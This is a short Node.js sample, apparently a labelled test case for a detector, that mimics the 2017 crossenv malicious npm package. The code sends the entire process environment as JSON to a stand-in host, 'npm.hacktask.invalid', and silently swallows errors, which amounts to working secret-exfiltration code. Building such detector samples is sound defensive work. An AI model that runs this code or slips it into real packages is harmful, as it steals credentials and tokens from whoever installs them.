// P4 in Node, shaped like crossenv (2017): the whole process.env as JSON in a POST body. A tracer
// cannot see environment reads; the decoy values in the request body give it away.
const http = require('http');
const body = JSON.stringify(process.env);
const req = http.request({ host: 'npm.hacktask.invalid', path: '/log/', method: 'POST', headers: { 'content-type': 'application/json' }, timeout: 3000 });
req.on('error', () => {});
req.on('timeout', () => req.destroy());
req.end(body);
